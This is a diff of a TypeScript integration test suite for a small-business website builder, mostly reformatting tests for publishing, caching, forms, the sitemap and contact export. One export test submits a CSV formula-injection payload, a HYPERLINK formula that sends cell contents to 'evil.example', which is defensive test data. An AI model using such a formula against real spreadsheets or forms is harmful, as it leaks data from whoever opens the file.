@@ -13,7 +13,20 @@ let running: Awaited<ReturnType<typeof startAppWithWorker>>;
 let db: DataSource;
 let store: DraftEventStore;
 
-const ALL: SectionType[] = ['Header', 'Introduction', 'Services', 'Gallery', 'QuoteBanner', 'ImageBanner', 'Team', 'CustomerReviews', 'FrequentlyAskedQuestions', 'Contact', 'Newsletter', 'Footer'];
+const ALL: SectionType[] = [
+  'Header',
+  'Introduction',
+  'Services',
+  'Gallery',
+  'QuoteBanner',
+  'ImageBanner',
+  'Team',
+  'CustomerReviews',
+  'FrequentlyAskedQuestions',
+  'Contact',
+  'Newsletter',
+  'Footer',
+];
 
 beforeAll(async () => {
   running = await startAppWithWorker();
@@ -45,7 +58,10 @@ it('publishes a draft at /{handle} without the app shell, with caching and a str
   expect((await client.get('/api/handles/maple-street')).body).toEqual({ available: true });
   const published = await client.post(`/api/websites/${id}/publish`, { handle: ' Maple Street!' });
   expect(published.status).toBe(200);
-  expect(published.body).toMatchObject({ handle: 'maplestreet', url: `${running.env.PUBLIC_URL ?? 'http://localhost:0'}/maplestreet`.replace('localhost:0', 'localhost:0') });
+  expect(published.body).toMatchObject({
+    handle: 'maplestreet',
+    url: `${running.env.PUBLIC_URL ?? 'http://localhost:0'}/maplestreet`.replace('localhost:0', 'localhost:0'),
+  });
   expect((await client.get('/api/handles/maplestreet')).body).toEqual({ available: false });
 
   const page = await fetch(`${running.base}/maplestreet`);
@@ -88,7 +104,10 @@ it('answers a published page from the cache in brotli, gzip or plain, as the vis
   expect(plain.headers['content-encoding']).toBeUndefined();
   const html = plain.body.toString('utf8');
   expect(html).toContain('Quick Brew');
-  for (const [accept, encoding, decode] of [['gzip, deflate, br', 'br', brotliDecompressSync], ['gzip', 'gzip', gunzipSync]] as const) {
+  for (const [accept, encoding, decode] of [
+    ['gzip, deflate, br', 'br', brotliDecompressSync],
+    ['gzip', 'gzip', gunzipSync],
+  ] as const) {
     const answer = await rawGet('/quick-brew?utm_source=x', { 'accept-encoding': accept });
     expect([answer.status, answer.headers['content-encoding'], answer.headers.vary]).toEqual([200, encoding, 'Accept-Encoding']);
     expect(Number(answer.headers['content-length'])).toBe(answer.body.length);
@@ -184,23 +203,31 @@ it('takes contact and newsletter submissions, with and without JavaScript, and e
   expect(await plain.text()).toContain('Back to the website');
 
   const invalid = await fetch(`${running.base}/api/public/form-bakery/contact`, {
-    method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json' }, body: JSON.stringify({ name: '', email: 'x', message: '' }),
+    method: 'POST',
+    headers: { 'content-type': 'application/json', accept: 'application/json' },
+    body: JSON.stringify({ name: '', email: 'x', message: '' }),
   });
   expect(invalid.status).toBe(400);
 
   const bot = await fetch(`${running.base}/api/public/form-bakery/contact`, {
-    method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json' },
+    method: 'POST',
+    headers: { 'content-type': 'application/json', accept: 'application/json' },
     body: JSON.stringify({ name: 'Bot', email: 'bot@example.com', message: 'spam', company_website: 'http://spam.example' }),
   });
   expect(bot.status).toBe(200);
 
   const rows = await db.query(`SELECT fields FROM customer_contact_forms WHERE website_id = $1 ORDER BY created_at`, [id]);
-  expect(rows.map((r: { fields: { title: string; value: string }[] }) => r.fields.find((f) => f.value.includes('@'))?.value)).toEqual(['ana@example.com', 'ben@example.com']);
+  expect(rows.map((r: { fields: { title: string; value: string }[] }) => r.fields.find((f) => f.value.includes('@'))?.value)).toEqual([
+    'ana@example.com',
+    'ben@example.com',
+  ]);
   const mail = await waitForMail(running.base, 'forms@example.com', (m) => m.subject.startsWith('New message') && m.text.includes('rye'));
   expect(mail.html).toContain('Do you bake &lt;b&gt;rye&lt;/b&gt;?');
 
   const signup = await fetch(`${running.base}/api/public/form-bakery/newsletter`, {
-    method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json' }, body: JSON.stringify({ email: 'Fan@Example.com' }),
+    method: 'POST',
+    headers: { 'content-type': 'application/json', accept: 'application/json' },
+    body: JSON.stringify({ email: 'Fan@Example.com' }),
   });
   expect(signup.status).toBe(200);
   const subs = await db.query(`SELECT email FROM newsletter_subscriptions WHERE website_id = $1`, [id]);
@@ -231,7 +258,14 @@ it('lists the marketing pages, the create-from-a-page routes among them, in the 
   expect(marketing.headers.get('content-type')).toMatch(/application\/xml/);
   const xml = await waitForSitemap(() => true);
   const base = publicUrl(running.env);
-  for (const path of ['/', '/pricing', '/create-your-website-with-facebook', '/create-your-website-with-thumbtack', '/create-your-website-with-yelp', '/github-to-website']) {
+  for (const path of [
+    '/',
+    '/pricing',
+    '/create-your-website-with-facebook',
+    '/create-your-website-with-thumbtack',
+    '/create-your-website-with-yelp',
+    '/github-to-website',
+  ]) {
     expect(xml).toContain(`<loc>${base}${path}</loc>`);
   }
 
@@ -247,12 +281,14 @@ it('exports contacts as CSV by an emailed link, only for the owner', async () =>
   const { client, id } = await ownerWithDraft('exporter@example.com', 'Export Deli');
   await client.post(`/api/websites/${id}/publish`, { handle: 'export-deli' });
   await fetch(`${running.base}/api/public/export-deli/contact`, {
-    method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json' },
+    method: 'POST',
+    headers: { 'content-type': 'application/json', accept: 'application/json' },
     body: JSON.stringify({ name: 'Cleo, "the cook"', email: 'cleo@example.com', message: 'Catering for 20?' }),
   });
   // A visitor's message a spreadsheet would run as a formula.
   await fetch(`${running.base}/api/public/export-deli/contact`, {
-    method: 'POST', headers: { 'content-type': 'application/json', accept: 'application/json' },
+    method: 'POST',
+    headers: { 'content-type': 'application/json', accept: 'application/json' },
     body: JSON.stringify({ name: '@SUM(A1)', email: 'mallory@example.com', message: '=HYPERLINK("http://evil.example/?x="&A2,"Click")' }),
   });
   const stranger = await signInByCode(running.base, 'nosy@example.com');
